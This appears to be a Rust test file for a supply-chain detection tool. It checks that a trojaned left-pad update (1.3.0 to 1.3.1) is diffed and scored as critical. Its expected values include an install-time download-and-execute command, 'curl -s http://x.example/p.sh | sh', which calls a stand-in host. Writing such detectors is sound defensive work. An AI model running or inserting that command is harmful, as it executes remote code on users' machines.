//! A trojaned update of a real package: the diff names exactly what was
//! added, and the verdict is critical.

mod common;

use std::collections::BTreeSet;

use common::{left_pad_and_trojaned_update, profile_of};
use paddock_diff::profile::EXEC_WRITTEN_FILE;
use paddock_diff::{diff, Kind, PhaseLite, Scoring, Suppressions};
use paddock_proto::v1::{ChangeAction, Severity};

#[test]
fn the_diff_names_exactly_the_new_behaviours() {
    let (previous, next) = left_pad_and_trojaned_update();
    let (previous, next) = (profile_of(&previous), profile_of(&next));
    let changes = diff(&previous, &next);
    assert!(
        changes.iter().all(|c| c.action() == ChangeAction::Added),
        "{changes:#?}"
    );
    let added: BTreeSet<(Kind, PhaseLite, String)> = changes
        .iter()
        .map(|c| {
            let key = paddock_diff::diff::item_key(c).unwrap();
            (key.kind, key.phase, key.value)
        })
        .collect();
    let install = PhaseLite::Install;
    let want: BTreeSet<(Kind, PhaseLite, String)> = [
        (Kind::Host, install, "x.example:80".to_owned()),
        (Kind::DnsName, install, "x.example".to_owned()),
        (
            Kind::Command,
            install,
            "sh -c 'curl -s http://x.example/p.sh | sh'".to_owned(),
        ),
        (Kind::Command, install, "sh /tmp/p.sh".to_owned()),
        (
            Kind::Command,
            install,
            format!("{EXEC_WRITTEN_FILE} /tmp/p.sh"),
        ),
        (Kind::FileWrite, install, "/tmp/<tmp>".to_owned()),
    ]
    .into_iter()
    .collect();
    assert_eq!(added, want);
    for c in &changes {
        assert_eq!(c.evidence_hash.len(), 64);
        assert_eq!(c.evidence.len(), 1);
        assert!(!c.evidence[0].detail.is_empty(), "{c:?}");
    }
}

#[test]
fn the_verdict_is_critical_and_says_why() {
    let (previous, next) = left_pad_and_trojaned_update();
    let (previous, next) = (profile_of(&previous), profile_of(&next));
    let changes = diff(&previous, &next);
    let v = Scoring::builtin().verdict(&next, Some(&previous), &changes, &Suppressions::default());
    assert_eq!(v.severity(), Severity::Critical);
    let codes: Vec<&str> = v.reasons.iter().map(|r| r.code.as_str()).collect();
    assert_eq!(
        codes,
        [
            "download-and-execute",
            "install-network-added",
            "command-added",
            "file-write-added"
        ]
    );
    assert_eq!(v.score, 150.0);
    assert!(
        v.reasons[0]
            .description
            .contains("curl -s http://x.example/p.sh | sh"),
        "{:?}",
        v.reasons[0]
    );
    assert_eq!(v.previous_version, "1.3.0");
    assert_eq!(v.package.unwrap().version, "1.3.1");
}

#[test]
fn a_first_release_that_is_already_trojaned_is_scored_from_findings_only() {
    // Without a previous release there is nothing to compare: the
    // dynamic analysis's findings are what would flag it.
    let (_, next) = left_pad_and_trojaned_update();
    let next = profile_of(&next);
    let v = Scoring::builtin().verdict(&next, None, &[], &Suppressions::default());
    assert_eq!(v.severity(), Severity::Info);
}

#[test]
fn the_next_trojaned_release_is_not_new_again() {
    let (_, trojaned) = left_pad_and_trojaned_update();
    let a = profile_of(&trojaned);
    let mut again = trojaned.clone();
    again.0.package.as_mut().unwrap().version = "1.3.2".into();
    again.1.package.as_mut().unwrap().version = "1.3.2".into();
    assert!(diff(&a, &profile_of(&again)).is_empty());
}
